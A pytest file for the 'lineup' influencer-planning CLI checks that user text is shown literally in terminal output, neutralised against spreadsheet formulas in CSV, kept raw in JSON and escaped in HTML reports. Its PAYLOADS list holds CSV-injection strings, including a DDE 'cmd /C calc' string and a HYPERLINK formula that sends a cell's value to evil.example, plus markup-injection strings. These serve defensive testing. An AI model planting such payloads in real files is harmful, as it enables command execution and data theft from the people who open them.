"""Client-facing outputs keep user text literal: terminal (rich), CSV (no formulas), JSON (raw), figures.

The scenario name, two strategy names, an influencer id and a niche carry each
payload; the real ``lineup`` process must exit 0, print the text as typed,
neutralise it in CSV and keep it raw in JSON.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from lineup.cli import app

PAYLOADS = {
    "formula": "=1+2",
    "minus": "-2+3",
    "dde": "+cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "dollars": "budget $$ test",
    "mathtext": "Q3 $_^$ campaign",
    "alpha": r"Cost $\alpha$ plan",
    "spring": "Spring $5k vs $10k push",
    "close-bold": "[/bold]",
    "close-all": "Campaign [/]",
    "close-italic": "[/i]",
    "brand": "brand[official]",
    "uk": "[UK] fashion",
    "link": "[link=https://evil.example]alice[/link]",
}

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

ROSTER = [
    ("id", "platform", "followers", "engagement_rate", "fee", "niches", "authenticity"),
    ("bob", "instagram", "8k", "3.5%", "650", "skincare", "0.9"),
    ("carol", "tiktok", "2500", "3%", "220", "skincare", "0.85"),
    ("erin", "youtube", "1.1M", "1.8%", "3000", "skincare", "0.8"),
]


def niche_of(payload: str) -> str:
    """The payload as a niche name: lower-cased like roster niches, without the separators of a niches
    cell (';', '|', ',') or of a niche share ('=', ':') after its first character."""
    return (payload[0] + re.sub(r"[;|,=:]", " ", payload[1:])).lower()


def write_payload_case(tmp_path: Path, payload: str) -> Path:
    """A tiny scenario whose name, strategies, one id and one niche are ``payload``."""
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(
        [*ROSTER, (payload, "instagram", "5.2K", "4.1%", "400", f"{niche_of(payload)};skincare", "0.95")])
    (tmp_path / "roster.csv").write_text(buf.getvalue())
    scenario = {
        "name": payload, "currency": "GBP", "budget": 6000, "roster": "roster.csv",
        "objective": {"engagement": 1.0, "coverage": 500},
        "niches": {"skincare": {"weight": 3}, niche_of(payload): {"weight": 2}},
        "constraints": {"include": [payload]},
        "strategies": {payload: {"description": "the scenario's rules"},
                       f"{payload} micro": {"description": "small creators", "tiers": ["nano", "micro"]}},
        "simulation": {"replications": 2, "days": 5, "population": {"size": 1500}},
    }
    path = tmp_path / "scenario.yaml"
    path.write_text(json.dumps(scenario))  # JSON is YAML, and quotes every payload safely
    return path


def lineup(*args) -> subprocess.CompletedProcess:
    """The real ``lineup`` process (it inherits PYTHONPATH, so it runs this checkout)."""
    return subprocess.run([sys.executable, "-m", "lineup.cli", *map(str, args)], capture_output=True, text=True,
                          timeout=300)


def neutral(text: str) -> str:
    return "'" + text if text.startswith((*FORMULA_START, "'")) else text


def assert_no_formula(path: Path) -> list[list[str]]:
    """Every cell of a CSV lineup wrote: none starts a formula unless it is a number."""
    rows = list(csv.reader(io.StringIO(path.read_text())))
    for cell in (c for row in rows for c in row):
        if cell.startswith(FORMULA_START):
            float(cell)  # a number written as a number (e.g. -2.5) is fine; text is not
    return rows


def test_subprocesses_run_this_checkout():
    proc = subprocess.run([sys.executable, "-c", "import lineup; print(lineup.__file__)"], capture_output=True,
                          text=True)
    import lineup

    assert proc.stdout.strip() == lineup.__file__


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_solve_shows_user_text_literally_neutralises_csv_keeps_json_raw(tmp_path, payload):
    path = write_payload_case(tmp_path, payload)
    proc = lineup("solve", path, "--output", tmp_path / "out", "--what-if", "0")
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr and "error" not in proc.stderr
    assert f"{payload} — budget" in proc.stdout
    assert f"│ {payload} " in proc.stdout  # the id cell of the table
    assert f"Niche coverage: skincare 100%, {niche_of(payload)} 100%" in proc.stdout
    rows = assert_no_formula(tmp_path / "out" / "portfolio.csv")
    cells = dict(zip(rows[0], zip(*rows[1:])))
    assert neutral(payload) in cells["id"]
    assert any(niche_of(payload) in cell for cell in cells["niches"])  # assert_no_formula: neutralised if first
    data = json.loads((tmp_path / "out" / "portfolio.json").read_text())
    assert data["scenario"] == payload and payload in [row["id"] for row in data["selected"]]


def test_portfolio_csv_reads_back_into_simulate(tmp_path):
    payload = PAYLOADS["hyperlink"]
    path = write_payload_case(tmp_path, payload)
    stdout_csv = lineup("solve", path, "--format", "csv", "--output", tmp_path / "out", "--what-if", "0").stdout
    assert stdout_csv == (tmp_path / "out" / "portfolio.csv").read_text()
    assert neutral(payload) in [row[0] for row in assert_no_formula(tmp_path / "out" / "portfolio.csv")]
    proc = lineup("simulate", path, "--portfolio", tmp_path / "out" / "portfolio.csv", "-r", "1", "--format", "json")
    assert proc.returncode == 0, proc.stderr
    solved = json.loads((tmp_path / "out" / "portfolio.json").read_text())
    assert sorted(json.loads(proc.stdout)["portfolio"]) == sorted(row["id"] for row in solved["selected"])


@pytest.mark.parametrize("payload", [PAYLOADS[k] for k in ("close-bold", "close-all", "link", "mathtext")],
                         ids=["close-bold", "close-all", "link", "mathtext"])
def test_compare_and_frontier_tables_show_user_text_literally(tmp_path, payload):
    path = write_payload_case(tmp_path, payload)
    res = CliRunner().invoke(app, ["compare", str(path), "-r", "2"])
    assert res.exit_code == 0, res.output
    assert payload in res.stdout and f"{payload} micro" in res.stdout
    res = CliRunner().invoke(app, ["frontier", str(path), "--budgets", "5000,6000"])
    assert res.exit_code == 0, res.output
    assert f"{payload}: budget frontier (GBP)" in res.stdout


@pytest.mark.slow
@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_compare_frontier_report_outputs_with_user_text(tmp_path, payload):
    path = write_payload_case(tmp_path, payload)
    out = tmp_path / "cmp"
    proc = lineup("compare", path, "-r", "2", "--output", out)
    assert proc.returncode == 0, proc.stderr
    assert payload in proc.stdout and f"{payload} micro" in proc.stdout
    rows = assert_no_formula(out / "comparison.csv")
    assert [r[0] for r in rows[1:]] == [neutral(payload), neutral(f"{payload} micro")]
    assert json.loads((out / "comparison.json").read_text())["strategies"] == [payload, f"{payload} micro"]
    assert all((out / f"{stem}.{ext}").stat().st_size > 1000
               for stem in ("buzz", "reach_vs_spend", "coverage") for ext in ("png", "svg"))

    proc = lineup("frontier", path, "--budgets", "5000,6000", "--output", tmp_path / "fr")
    assert proc.returncode == 0, proc.stderr
    assert f"{payload}: budget frontier (GBP)" in proc.stdout
    assert_no_formula(tmp_path / "fr" / "frontier.csv")
    assert json.loads((tmp_path / "fr" / "frontier.json").read_text())["scenario"] == payload
    assert (tmp_path / "fr" / "frontier.png").stat().st_size > 1000

    proc = lineup("report", path, "-r", "2", "--frontier-points", "2", "--output", tmp_path / "rep")
    assert proc.returncode == 0, proc.stderr
    page = (tmp_path / "rep" / "report.html").read_text()
    import html

    assert html.escape(payload, quote=True) in page and "<script" not in page
    assert (tmp_path / "rep" / "frontier.svg").exists()


@pytest.mark.parametrize("option", [["--niches", "skincare,=1+2"], ["--niches", "@sum,vegan"],
                                    ["--platforms", "instagram=0.5,-2+3=0.5"]])
def test_generate_roster_refuses_names_that_start_a_formula(tmp_path, option):
    res = CliRunner().invoke(app, ["generate-roster", "-n", "5", *option, "-o", str(tmp_path / "r.csv")])
    assert res.exit_code == 2 and "formula" in res.stderr and "Traceback" not in res.output
    assert not (tmp_path / "r.csv").exists()
